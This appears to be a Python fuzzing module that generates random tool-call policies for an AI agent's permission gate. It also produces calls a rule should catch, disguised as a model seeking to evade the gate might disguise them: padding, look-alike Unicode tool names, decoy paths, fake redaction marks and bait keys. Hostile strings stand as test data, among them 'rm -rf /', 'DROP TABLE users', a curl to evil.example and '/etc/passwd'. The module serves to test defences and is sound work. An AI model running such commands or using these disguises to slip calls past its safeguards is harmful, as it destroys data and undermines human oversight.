"""Policies, and calls that they deny, dressed up by an LLM that wants them to run. All from a seed.

`policy_of(number)` is one policy; `Dresser` makes calls that one of its rules is about, and disguises them
in one to three of the ways below. Whether the call is still one to deny is not known here (`plain_rules`).
"""

import copy
import random
from collections.abc import Callable
from typing import Any, NamedTuple

__all__ = ["BAIT", "Case", "Dresser", "policy_of"]

TOOLS = ("bash", "pay", "send_mail", "query")
TEXTS = {
    "rm -rf": "rm -rf /srv",
    r"\bDROP\s+TABLE\b": "x; DROP TABLE users",
    r"(?i)curl.*evil\.example": "CURL http://evil.example/x",
    r"^sudo ": "sudo reboot",
    r"-f$": "rm -f",
    r"pass(word|wd)": "the passwd file",
    r"\d{4}-\d{4}": "card 1234-5678",
    "[äöü]": "über",
}
GLOBS = {"*secret*": "a secret b", "/etc/*": "/etc/passwd", "?oot": "root", "[!a-m]*": "zoo"}
WORDS = ("admin", "root", "prod", "evil", 7, True, None)
PATHS = ("command", "amount", "note", "items.0", "items.0.price")
PATHS += ("order.amount", "order.to", "user.role.name")
WICKED = ("rm -rf /", "sudo x", 5000, "admin", {"amount": 5000}, [7, 8], "1234-5678", [1, 2, 3, 4])
BAIT = "sk-" + "a" * 24
WIDE_LETTERS = {ord(char): ord(char) - 0x20 + 0xFF00 for char in map(chr, range(0x21, 0x7F))}
BOLD_LETTERS = {97 + at: 0x1D41A + at for at in range(26)}


class Case(NamedTuple):
    """One call, and how it is dressed up."""

    tool: str
    arguments: dict[str, Any]
    worn: tuple[str, ...]


def policy_of(seed: int, number: int) -> dict[str, Any]:
    """A policy: one to four rules, and a default."""
    dice = random.Random(f"policy {seed} {number}")
    rules = [_rule(dice) for _ in range(dice.randint(1, 4))]
    default = dice.choice(["allow", "allow", "allow", "deny"])
    if default == "deny" and all(rule["action"] != "allow" for rule in rules):
        rules.append({"tools": ["*"], "action": "allow", "when": {_path(dice): _condition(dice)}})
    return {"rules": rules, "default": default}


def _rule(dice: random.Random) -> dict[str, Any]:
    tools = dice.choice([*([tool] for tool in TOOLS), ["*"], ["pa*", "bash"], ["send_*"]])
    rule: dict[str, Any] = {"tools": tools, "action": dice.choice(["deny", "deny", "deny", "ask", "allow"])}
    kind = dice.random()
    if kind < 0.85:
        rule["when"] = {_path(dice): _condition(dice) for _ in range(dice.choice([1, 1, 1, 2]))}
    elif kind < 0.97:
        rule["schema"] = _schema(dice)
    return rule


def _path(dice: random.Random) -> str:
    return dice.choice(PATHS)


def _condition(dice: random.Random) -> dict[str, Any]:
    number = dice.choice([0, 100, 1000, 9007199254740993])
    return dice.choice(
        [
            {"matches": dice.choice(list(TEXTS))},
            {"matches": dice.choice(list(TEXTS))},
            {"glob": dice.choice(list(GLOBS))},
            {"equals": dice.choice(WORDS)},
            {"in": dice.sample(WORDS, 2)},
            {dice.choice(["gt", "gte"]): number},
            {dice.choice(["gt", "gte"]): number},
            {dice.choice(["lt", "lte"]): number},
            {"exists": dice.random() < 0.5},
        ]
    )


def _schema(dice: random.Random) -> dict[str, Any]:
    inner = dice.choice(
        [
            {"pattern": dice.choice(["rm -rf", "^sudo ", r"\d{4}-\d{4}"])},
            {"minimum": 1000},
            {"const": "admin"},
            {"type": "integer", "maximum": 10**6},
            {"type": "object", "required": ["amount"], "properties": {"amount": {"minimum": 1000}}},
            {"items": {"not": {"const": 7}}},
            {"type": ["string", "array"], "maxItems": 3},
        ]
    )
    name = dice.choice(["command", "amount", "order", "items", "note"])
    schema = {"properties": {name: inner}, "required": [name]}
    return schema if dice.random() < 0.6 else {"not": schema}


class Dresser:
    """Makes the calls of one policy."""

    def __init__(self, policy: dict[str, Any], seed: object) -> None:
        self.policy = policy
        self.dice = random.Random(f"calls {seed}")

    def case(self) -> Case:
        """A call that one rule is about, in disguise."""
        dice = self.dice
        rule = dice.choice(self.policy["rules"])
        tool = dice.choice(TOOLS) if rule["tools"][0].find("*") >= 0 else rule["tools"][0]
        arguments: dict[str, Any] = {"note": "hello", "n": 1} if dice.random() < 0.5 else {}
        for path, condition in rule.get("when", {}).items():
            value = self._wicked(condition)
            if value is not None or condition != {"exists": False}:
                _put(arguments, path, value)
        if "schema" in rule:
            name = rule["schema"].get("not", rule["schema"])["required"][0]
            arguments[name] = copy.deepcopy(dice.choice(WICKED))
        worn: list[str] = []
        for name in dice.sample(list(DISGUISES), dice.choice([0, 1, 1, 1, 2, 2, 3])):
            changed = DISGUISES[name](self, tool, arguments, rule)
            if changed is not None:
                tool, arguments = changed
                worn.append(name)
        return Case(tool, arguments, tuple(sorted(worn)))

    def _wicked(self, condition: dict[str, Any]) -> Any:
        dice = self.dice
        ((kind, given),) = condition.items()
        match kind:
            case "matches":
                return TEXTS[given]
            case "glob":
                return GLOBS[given]
            case "equals":
                return given
            case "in":
                return dice.choice(given)
            case "gt" | "gte":
                return given + dice.choice([1, 1, 4000, 10**25])
            case "lt" | "lte":
                return given - dice.choice([1, 1, 4000])
        return "there" if given else None

    def padding(self) -> str:
        return self.dice.choice("x#é ") * self.dice.choice([300, 300, 300, 16_400])


def _put(arguments: dict[str, Any], path: str, value: Any) -> None:
    head, _, rest = path.partition(".")
    if not rest:
        arguments[head] = value
    elif rest.startswith("0"):
        inner: dict[str, Any] = {}
        _put(inner, rest, value)
        arguments[head] = [inner["0"]]
    else:
        below = arguments.get(head)
        arguments[head] = below if isinstance(below, dict) else {}
        _put(arguments[head], rest, value)


def _places(arguments: Any) -> list[tuple[Any, Any]]:
    """Every container with a key of it, the outermost first."""
    found, todo = [], [arguments]
    while todo:
        here = todo.pop(0)
        keys = list(here) if isinstance(here, dict) else range(len(here))
        for key in keys:
            found.append((here, key))
            if isinstance(here[key], dict | list):
                todo.append(here[key])
    return found


Change = tuple[str, dict[str, Any]] | None


def _on_text(change: Callable[[Dresser, str], str]) -> Callable[..., Change]:
    def worn(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
        texts = [(here, key) for here, key in _places(arguments) if isinstance(here[key], str)]
        if not texts:
            return None
        here, key = own.dice.choice(texts)
        here[key] = change(own, here[key])
        return tool, arguments

    return worn


def _numbers(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    numbers = [(here, key) for here, key in _places(arguments) if type(here[key]) is int]
    if not numbers:
        return None
    here, key = own.dice.choice(numbers)
    value = here[key]
    sign, digits = ("-" if value < 0 else ""), str(abs(value))
    here[key] = own.dice.choice(
        [
            str(value),
            f"{sign}{'0' * 70}{digits}",
            f" {value}\n",
            f"{sign}{digits}.{'0' * 80}",
            f"{value}e0",
            f"{sign}{digits[:1]}_{digits[1:]}" if len(digits) > 1 else str(value),
            str(value).translate({48 + at: 0xFF10 + at for at in range(10)}),
            float(value) if abs(value) < 2**53 else value,
            f"{value}.{'9' * 300}" if value >= 0 else value,
        ]
    )
    return tool, arguments


def _wide(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    maps = [arguments, *(here[key] for here, key in _places(arguments) if isinstance(here[key], dict))]
    own.dice.choice(maps).update({f"k{number}": number for number in range(1_100)})
    return tool, arguments


def _decoy(own: Dresser, tool: str, arguments: dict[str, Any], rule: Any) -> Change:
    paths = [path for path in rule.get("when", {}) if "." in path]
    if not paths:
        return None
    path = own.dice.choice(paths)
    harmless = own.dice.choice([1, "hello", "admin", 0, None, "root", 5000])
    if own.dice.random() < 0.3:  # what is wicked stands at the key, and the path leads to the harmless
        value = own._wicked(rule["when"][path])
        _put(arguments, path, harmless)
        arguments[path] = value
    else:
        arguments[path] = harmless
    return tool, arguments


def _deep(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    maps = [arguments, *(here[key] for here, key in _places(arguments) if isinstance(here[key], dict))]
    inner: Any = "x"
    for _ in range(40):
        inner = [inner]
    own.dice.choice(maps)["deep"] = inner
    return tool, arguments


def _key(text: str) -> Callable[..., Change]:
    def worn(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
        maps = [arguments, *(here[key] for here, key in _places(arguments) if isinstance(here[key], dict))]
        own.dice.choice(maps)[text] = 1
        return tool, arguments

    return worn


def _order(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    pairs = list(arguments.items())
    own.dice.shuffle(pairs)
    return tool, dict(pairs)


def _name(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    return tool.translate(own.dice.choice([WIDE_LETTERS, BOLD_LETTERS])), arguments


def _bulk(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    if own.dice.random() < 0.9:  # it is slow
        return None
    return tool, {**arguments, **{f"bulk{number}": "y" * 250 for number in range(700)}}


def _large(own: Dresser, tool: str, arguments: dict[str, Any], _rule: Any) -> Change:
    numbers = [(here, key) for here, key in _places(arguments) if type(here[key]) is int and here[key] > 0]
    if not numbers:
        return None
    here, key = own.dice.choice(numbers)
    here[key] *= 10**30
    return tool, arguments


DISGUISES: dict[str, Callable[..., Change]] = {
    "padding behind": _on_text(lambda own, text: f"{text} #{own.padding()}"),
    "padding before": _on_text(lambda own, text: f"{own.padding()} {text}"),
    "mark": _on_text(
        lambda own, text: f"{text} {own.dice.choice(['⟦toolgate:', '⟦toolgate:redacted:4' + 31 * 'a' + '⟧'])}"
    ),
    "surrogate": _on_text(lambda own, text: text + own.dice.choice(["\ud800", "\udfff x"])),
    "bait for redact": _on_text(lambda own, text: f"{text} {BAIT}"),
    "line's end": _on_text(lambda own, text: text + "\n"),
    "number forms": _numbers,
    "large number": _large,
    "wide map": _wide,
    "decoy": _decoy,
    "deep": _deep,
    "surrogate in a key": _key("k\ud800"),
    "mark in a key": _key("⟦toolgate:x"),
    "key of the whole": _key("⟦arguments⟧"),
    "bait in a key": _key(BAIT),
    "order of keys": _order,
    "tool's name": _name,
    "bulk": _bulk,
}
"""What a disguise is called, and how it changes a call; None where there is nothing to change."""
